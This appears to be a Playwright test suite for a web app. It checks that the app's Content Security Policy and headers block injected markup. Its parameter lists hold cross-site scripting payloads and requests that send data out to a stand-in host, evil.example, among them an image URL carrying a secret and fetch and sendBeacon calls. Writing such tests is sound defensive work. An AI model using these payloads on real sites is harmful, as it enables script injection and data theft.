"""Markup injected into the page runs nothing and loads nothing from elsewhere."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from tests.ui.home import Home, home
from tests.ui.raw import send
from ui.headers import _UNUSED

pytest.importorskip("playwright.sync_api")
if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

INSERT = """
(html) => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", (event) =>
    resolve([event.effectiveDirective, event.blockedURI]), { once: true });
  setTimeout(resolve, 9000, "nothing was refused");
  const place = document.createElement("div");
  place.innerHTML = html;
  document.body.append(place);
  // Scripts of inserted markup don't run in any case; those that a script makes would.
  for (const inert of place.querySelectorAll("script")) {
    const live = document.createElement("script");
    if (inert.src) live.src = inert.src;
    live.textContent = inert.textContent;
    inert.replaceWith(live);
  }
  place.querySelector("[data-click]")?.click();
  place.querySelector("form")?.requestSubmit();
})
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Home]:
    with home(tmp_path_factory.mktemp("home")) as running:
        yield running


@pytest.fixture(scope="module")
def page(browser: Browser, served: Home) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    complaints: list[str] = []
    opened.on("console", lambda message: complaints.append(message.text))
    opened.goto(served.address)
    opened.wait_for_function("document.documentElement?.dataset.connection === 'open'")
    assert not [text for text in complaints if "Content Security Policy" in text]
    yield opened
    context.close()


def test_no_manifest_is_asked_for(page: Page) -> None:
    """A browser with a profile fetches it without the cookie, and logs that it was refused."""
    assert page.locator("link[rel=manifest]").count() == 0


@pytest.mark.parametrize(
    ("html", "directive", "blocked"),
    [
        ("<img src='data:x' onerror='window.hacked = 1'>", "script-src-attr", "inline"),
        ("<svg onload='window.hacked = 1'></svg>", "script-src-attr", "inline"),
        ("<button data-click onclick='window.hacked = 1'>x</button>", "script-src-attr", "inline"),
        ("<script>window.hacked = 1</script>", "script-src-elem", "inline"),
        ("<a data-click href='javascript:window.hacked = 1'>x</a>", "script-src-elem", "inline"),
        (
            "<script src='https://evil.example/x.js'></script>",
            "script-src-elem",
            "https://evil.example/x.js",
        ),
        ("<img src='https://evil.example/?q=secret'>", "img-src", "https://evil.example/?q=secret"),
        (
            "<link rel='stylesheet' href='https://evil.example/x.css'>",
            "style-src-elem",
            "https://evil.example/x.css",
        ),
        (
            "<i style=\"background: url('https://evil.example/x.png')\">x</i>",
            "img-src",
            "https://evil.example/x.png",
        ),
        ("<iframe src='https://evil.example/'></iframe>", "frame-src", "https://evil.example"),
        ("<object data='https://evil.example/x'></object>", "object-src", "https://evil.example"),
        (
            "<form method='post' action='https://evil.example/'></form>",
            "form-action",
            "https://evil.example/",
        ),
    ],
)
def test_what_slips_in_runs_and_loads_nothing(
    page: Page, html: str, directive: str, blocked: str
) -> None:
    found = page.evaluate(INSERT, html)
    assert found == [directive, blocked]
    assert page.evaluate("window.hacked") is None


@pytest.mark.parametrize("reach", ["fetch(to)", "new EventSource(to)", "navigator.sendBeacon(to)"])
def test_scripts_reach_no_other_host(page: Page, reach: str) -> None:
    found = page.evaluate(
        """(reach) => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) =>
            resolve([event.effectiveDirective, event.blockedURI]), { once: true });
          Promise.resolve(new Function("to", "return " + reach)("https://evil.example/")).catch(() => 0);
        })""",
        reach,
    )
    assert found == ["connect-src", "https://evil.example/"]


def test_the_page_may_use_nothing_of_the_machine_but_its_clipboard(page: Page) -> None:
    allowed = set(page.evaluate("document.featurePolicy.allowedFeatures()"))
    assert "clipboard-write" in allowed
    named = {"camera", "microphone", "geolocation", "display-capture", "usb", "serial", "hid"}
    assert named | {"bluetooth", "payment", "midi", "clipboard-read"} <= set(_UNUSED)
    assert allowed & set(_UNUSED) == set()


def test_the_page_is_told_to_connect_to_its_own_server_only(served: Home) -> None:
    headers = send(served.port, "GET", "/").headers
    assert headers["connection-allowlist"] == "(response-origin)"
    assert headers["x-dns-prefetch-control"] == "off"
    assert headers["referrer-policy"] == "same-origin"
    assert "webrtc 'block'" in headers["content-security-policy"].split("; ")
